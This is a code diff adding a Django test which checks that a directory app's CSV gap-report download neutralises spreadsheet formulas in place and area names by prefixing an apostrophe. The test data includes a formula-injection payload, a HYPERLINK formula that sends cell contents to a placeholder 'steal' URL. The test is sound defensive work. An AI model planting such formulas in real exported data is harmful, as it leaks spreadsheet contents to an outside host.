@@ -275,3 +275,19 @@ def test_signed_out_visitors_are_sent_to_sign_in(layout):
 
     assert response.status_code == 302
     assert response["Location"].startswith("/sign-in/")
+
+
+def test_a_place_name_that_looks_like_a_formula_stays_text_in_the_csv(layout, signed_in):
+    # Location names come from other organisations' feeds.
+    formula = '=HYPERLINK("https://example.com/steal?d="&A1,"Alder")'
+    Location.objects.filter(name="Alder Family Hub").update(name=formula)
+    Area.objects.filter(code="E01900002").update(name="+Birch 001B")
+    client: Client = signed_in("analyst")
+
+    download = client.get("/directory/gaps/download.csv", {"distance": "2"})
+
+    lines = list(csv.reader(io.StringIO(download.content.decode())))
+    birch = lines[1]
+    assert birch[1] == "'+Birch 001B"
+    assert birch[5] == f"'{formula}"
+    assert birch[3:5] == ["2", "3000"] and birch[6:] == ["2.4", "2"]
